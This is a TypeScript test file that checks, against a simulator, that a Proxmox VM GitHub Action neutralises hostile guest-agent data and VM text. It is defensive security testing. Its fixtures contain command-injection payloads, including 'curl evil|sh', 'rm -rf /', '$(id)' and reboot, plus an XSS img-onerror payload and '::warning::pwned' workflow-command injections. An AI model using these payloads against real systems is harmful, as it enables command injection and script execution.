// Text from a guest or from PVE is data, through dist/ against the simulator: a hostile guest agent cannot put
// anything but well-formed addresses and names into the outputs, and VM names, descriptions and task errors
// cannot break out of the job summary's tables or start a workflow command in the log.
import { isIP } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Simulator, VmRecord } from '../../sim/index.js';
import type { ActionRun, StepResult } from '../../tools/runner/index.js';
import { annotations, expectJsonArray, expectNoSecretsShown, failed, lifecycleSim, ok, seedVm } from '../lifecycle/support.js';
import { step } from './support.js';

let sim: Simulator;
beforeAll(async () => {
  sim = await lifecycleSim();
});
afterAll(async () => {
  await sim.close();
  expectNoSecretsShown(sim);
});

/** A running VM whose agent answers at once with whatever `reply` says (the whole `data` of the answer). */
function hostileGuest(vmid: number, reply: unknown): VmRecord {
  const mac = `BC:24:11:00:${(vmid >> 8).toString(16).padStart(2, '0')}:${(vmid & 255).toString(16).padStart(2, '0')}`;
  const vm = seedVm(sim, vmid, 'pve1', { name: `guest-${vmid}`, agent: '1', net0: `virtio=${mac},bridge=vmbr0` });
  Object.assign(vm, { status: 'running', qmpstatus: 'running', startedAt: Date.now(), agentUpAt: Date.now() });
  vm.guest = { interfacesRaw: typeof reply === 'function' ? reply(mac.toLowerCase()) : reply };
  return vm;
}

const addr = (a: string, t = 'ipv4', prefix?: number) => ({ 'ip-address': a, 'ip-address-type': t, prefix });

/** Lines the runner could read as commands: split at CR too (some runners do), and trimmed as the runner trims. */
const commandLines = (text: string) =>
  text.split(/\r\n|\r|\n/).map((l) => l.replace(/^[\s\u0085]+/, '')).filter((l) => l.startsWith('::'));

/** Commands the test's payloads (`::warning::pwned`, `::error::x`) would have issued. */
function injected(s: StepResult | undefined): string[] {
  if (!s) return [];
  const lines = commandLines(`${s.stdout}\n${s.stderr}`).filter((l) => /^::[a-z-]+::(x|pwned)\b/.test(l));
  const notes = s.annotations.filter((a) => /^(x|pwned)\b/.test(a.message)).map((a) => `${a.level}: ${a.message}`);
  return [...lines, ...notes];
}

/** The summary's markdown tables as cells per row; every row must have its header's number of cells. */
function tables(summary: string): string[][][] {
  const out: string[][][] = [];
  let current: string[][] | undefined;
  for (const line of summary.split('\n')) {
    if (!line.startsWith('|')) {
      current = undefined;
      continue;
    }
    if (!current) out.push((current = []));
    current.push(line.split('|').slice(1, -1).map((c) => c.trim()));
  }
  return out;
}

function expectSummaryInert(summary: string): void {
  expect(summary).not.toContain('\r');
  expect(summary).not.toMatch(/<(?!\/?code>|br>|\/?details>|\/?summary>)/); // no raw tag but the ones the action writes itself
  expect(summary).not.toContain('](');
  expect(summary).not.toMatch(/:\/\/|www\./i);
  for (const t of tables(summary)) for (const row of t) expect(row, JSON.stringify(t)).toHaveLength(t[0].length);
}

const IFACE = /^(?:[A-Za-z0-9_.:@][A-Za-z0-9_.:@-]{0,63})?$/;
const MAC = /^[0-9a-f]{2}(?::[0-9a-f]{2}){5}$/;

/** ip, ipv4, ipv6 and interfaces hold only well-formed values, in bounded numbers. */
function expectWellFormedGuestOutputs(out: Record<string, string>): void {
  expect(out.ip === '' || (isIP(out.ip) > 0 && !out.ip.includes('%')), `ip ${out.ip}`).toBe(true);
  for (const a of expectJsonArray(out.ipv4)) expect(isIP(String(a)), String(a)).toBe(4);
  for (const a of expectJsonArray(out.ipv6)) expect(isIP(String(a)), String(a)).toBe(6);
  const ifaces = expectJsonArray(out.interfaces) as Array<Record<string, unknown>>;
  expect(ifaces.length).toBeLessThanOrEqual(64);
  for (const i of ifaces) {
    expect(Object.keys(i).every((k) => ['name', 'mac', 'addresses'].includes(k)), JSON.stringify(i)).toBe(true);
    expect(i.name).toMatch(IFACE);
    if (i.mac !== undefined) expect(i.mac).toMatch(MAC);
    const addrs = i.addresses as Array<{ address: string; family: string; prefix?: number }>;
    expect(addrs.length).toBeLessThanOrEqual(64);
    for (const a of addrs) {
      expect(isIP(a.address), a.address).toBe(a.family === 'ipv4' ? 4 : 6);
      if (a.prefix !== undefined) expect(Number.isInteger(a.prefix) && a.prefix >= 0 && a.prefix <= 128).toBe(true);
    }
  }
}

const waitIp = (vmid: number, extra: Record<string, string> = {}) => ({ vmid: String(vmid), state: 'started', wait_for: 'ip', ...extra });

describe('a hostile guest agent', () => {
  test('addresses with shell text around them never reach ip, ipv4, ipv6, interfaces or the summary', async () => {
    hostileGuest(701, (mac: string) => ({
      result: [
        { name: 'lo', 'hardware-address': '00:00:00:00:00:00', 'ip-addresses': [addr('127.0.0.1', 'ipv4', 8)] },
        {
          name: 'eth0',
          'hardware-address': mac,
          'ip-addresses': [
            addr('10.0.0.5$(touch${IFS}/tmp/pwned)', 'ipv4', 24),
            addr('fd00::1;curl${IFS}evil|sh', 'ipv6', 64),
            addr('10.0.0.7', 'ipv4', 24),
            addr('fd00::7', 'ipv6', 64),
          ],
        },
      ],
    }));
    const run = await step(sim, waitIp(701), { post: false });
    const out = ok(run);
    expect(out.ip).toBe('10.0.0.7');
    expect(JSON.parse(out.ipv4)).toEqual(['10.0.0.7']);
    expect(JSON.parse(out.ipv6)).toEqual(['fd00::7']);
    expectWellFormedGuestOutputs(out);
    const eth0 = (JSON.parse(out.interfaces) as Array<{ name: string; addresses: Array<{ address: string }> }>).find((i) => i.name === 'eth0');
    expect(eth0?.addresses.map((a) => a.address)).toEqual(['10.0.0.7', 'fd00::7']);
    const everything = [run.main.summary, ...Object.values(run.main.outputs)].join('\n');
    for (const bad of ['touch', 'curl', '$(', 'IFS', '|sh']) expect(everything).not.toContain(bad);
    expect(run.main.summary).toContain('`10.0.0.7`');
    expectSummaryInert(run.main.summary);
  });

  test('hostile interface names and MACs, wrong address types and bad prefixes: only well-formed values', async () => {
    hostileGuest(702, (mac: string) => ({
      result: [
        { name: 'eth0$(reboot)', 'hardware-address': mac, 'ip-addresses': [addr('10.0.2.7', 'ipv4', 24), addr('10.0.2.8', 'ipv6'), addr('fd00::2', 'ipv4')] },
        { name: 'x\r\n::warning::pwned', 'hardware-address': `${mac}; reboot`, 'ip-addresses': [addr('10.0.2.9', 'ipv5'), addr('10.0.2.10', 'ipv4', 99)] },
        { name: "'; rm -rf / #", 'hardware-address': '$(id)', 'ip-addresses': 'not a list' },
        { name: 'n'.repeat(5000), 'hardware-address': 42, 'ip-addresses': [null, 7, { 'ip-address': ['10.0.0.1'] }] },
        'junk',
        null,
      ],
    }));
    const run = await step(sim, waitIp(702), { post: false });
    const out = ok(run);
    expect(out.ip).toBe('10.0.2.7');
    expect(JSON.parse(out.ipv4)).toEqual(['10.0.2.7']);
    expectWellFormedGuestOutputs(out);
    const text = [run.main.stdout, run.main.summary, ...Object.values(run.main.outputs)].join('\n');
    for (const bad of ['reboot', 'rm -rf', '$(id)', 'nnnnnnnnnnnnnnnnnnnn', 'pwned']) expect(text).not.toContain(bad);
    expect(injected(run.main)).toEqual([]);
  });

  test('a huge answer (thousands of interfaces, thousands of addresses) gives bounded outputs', async () => {
    hostileGuest(703, (mac: string) => ({
      result: [
        { name: 'eth0', 'hardware-address': mac, 'ip-addresses': Array.from({ length: 2000 }, (_, i) => addr(`10.3.${i >> 8}.${i & 255}`, 'ipv4', 16)) },
        ...Array.from({ length: 3000 }, (_, i) => ({ name: `dummy${i}`, 'hardware-address': '02:00:00:00:00:01', 'ip-addresses': [addr(`172.16.${i >> 8}.${i & 255}`)] })),
      ],
    }));
    const run = await step(sim, waitIp(703), { post: false });
    const out = ok(run);
    expect(out.ip).toBe('10.3.0.0');
    expectWellFormedGuestOutputs(out);
    const ifaces = JSON.parse(out.interfaces) as Array<{ addresses: unknown[] }>;
    expect(ifaces).toHaveLength(64);
    expect(ifaces[0].addresses).toHaveLength(64);
    expect(JSON.parse(out.ipv4)).toHaveLength(64);
    expect(run.main.summary.length).toBeLessThan(20_000);
  });

  test.each([
    ['a string', { result: 'junk' }],
    ['an object', { result: { 'ip-address': '10.0.0.1' } }],
    ['no data at all', null],
    ['a list of junk', { result: [null, 1, 'x', [], { 'ip-addresses': 'x' }, { 'ip-addresses': [null, 'x', {}] }] }],
  ])('junk instead of a list of interfaces (%s): no addresses, and the step does not crash', async (_what, reply) => {
    const vm = hostileGuest(704, reply);
    const run = await step(sim, { vmid: '704', state: 'started', wait_for: 'agent' }, { post: false });
    sim.state.vms.delete(vm.vmid);
    const out = ok(run);
    expect(out.ip).toBe('');
    expect(JSON.parse(out.ipv4)).toEqual([]);
    expectWellFormedGuestOutputs(out);
  });
});

const PAYLOAD = 'a`b <img src=x onerror=alert(1)> [x](http://evil) | c\r\n::warning::pwned';

describe('PVE text in the job summary and the log', () => {
  test("a live name and description cannot break out of the summary's tables or issue a command", async () => {
    seedVm(sim, 720, 'pve1', { name: `evil\`${PAYLOAD.replace(/\r\n/g, '')}`, description: PAYLOAD, memory: '1024' });
    const run: ActionRun = await step(sim, { vmid: '720', state: 'present', update: 'true', description: 'clean', memory: '2048' }, { post: false });
    ok(run);
    const s = run.main.summary;
    expectSummaryInert(s);
    const [facts, changes] = tables(s);
    expect(facts.map((r) => r[0])).toEqual(['', '---', 'VM', 'vmid', 'node', 'state', 'changed', 'result', 'time']);
    expect(changes.map((r) => r[0])).toEqual(['setting', '---', '`description`', '`memory`']);
    expect(changes[3]).toEqual(['`memory`', 'memory', '`1024`', '`2048`']);
    expect(s.split('\n').filter((l) => l.startsWith('### '))).toHaveLength(1);
    expect(injected(run.main)).toEqual([]);
    expect(annotations(run.main, 'warning')).toEqual([]);
  });

  test('config text that PVE itself would never accept does not reach the name, mac or devices outputs', async () => {
    // Written into the config file behind the API's back (PVE validates these on every API write).
    seedVm(sim, 730, 'pve1', {
      name: 'x$(curl evil|sh)',
      net0: 'virtio=BC:24:11:00:07:30,bridge=vmbr0',
      net1: 'virtio=$(id),bridge=vmbr0',
      scsi0: 'local-lvm:vm-730-disk-0,size=4G',
      scsi1: 'local-lvm:vm-730-disk-1;reboot,size=4G',
    });
    const out = ok(await step(sim, { vmid: '730', state: 'current' }, { post: false }));
    expect(out.name).toBe('');
    expect(JSON.parse(out.mac)).toEqual({ net0: 'BC:24:11:00:07:30' });
    expect(JSON.parse(out.devices)).toEqual({ scsi0: 'local-lvm:vm-730-disk-0' });
    expect(out.node).toBe('pve1');
  });

  test('a task error with markdown, HTML and `\\r::error::x` is escaped in the failure summary and the log', async () => {
    const message = `boom <img src=x onerror=alert(1)> [x](http://evil) | \`tick\`\r::error::x`;
    sim.configure({ faults: { failTask: { type: 'qmcreate', message } } });
    try {
      const run = await step(sim, { node: 'pve1', name: 'ut-fail', memory: '512', cleanup: 'always' });
      expect(failed(run)).toContain('boom');
      const s = run.main.summary;
      expectSummaryInert(s);
      const [t] = tables(s);
      expect(t.map((r) => r[0])).toEqual(['', '---', 'state asked', 'error', 'time']);
      expect(t[3][1]).toContain('boom &#60;img src=x onerror=alert&#40;1&#41;&#62;');
      // Neither the main step (setFailed, the log) nor the post step (which waits for the failed create) obeys it.
      expect(injected(run.main)).toEqual([]);
      expect(run.post?.stdout).toContain('did not succeed');
      expect(injected(run.post)).toEqual([]);
    } finally {
      sim.configure({ faults: {} });
    }
  });
});
